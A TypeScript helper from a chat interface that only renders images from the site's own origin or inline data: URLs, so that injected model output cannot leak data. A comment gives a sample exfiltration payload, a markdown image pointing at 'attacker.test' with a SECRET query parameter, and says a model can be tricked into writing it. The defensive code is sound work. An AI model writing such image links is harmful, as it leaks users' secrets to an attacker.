// Its own file, without react-markdown, so the user-message sanitizer can use it without the markdown chunk.
/** Raster images written into the message itself: they load nothing from anywhere. */
export const DATA_IMAGE = /^data:image\/(?:png|gif|jpe?g|webp|avif)[;,]/i;

/**
 * rules.md "Security controls": a message shows images only from our own origin (a relative address, or this
 * site's own) or written inline as `data:`, so text the model was tricked into writing cannot leak anything
 * through an image address (`![a](https://attacker.test/p.png?d=SECRET)` would load with no click).
 */
export function isOwnImageSource(src: string | undefined, base: string = window.location.href): boolean {
  if (!src?.trim()) return false;
  if (DATA_IMAGE.test(src.trim())) return true;
  try {
    const url = new URL(src, base);
    return (url.protocol === 'http:' || url.protocol === 'https:') && url.origin === new URL(base).origin;
  } catch {
    return false;
  }
}
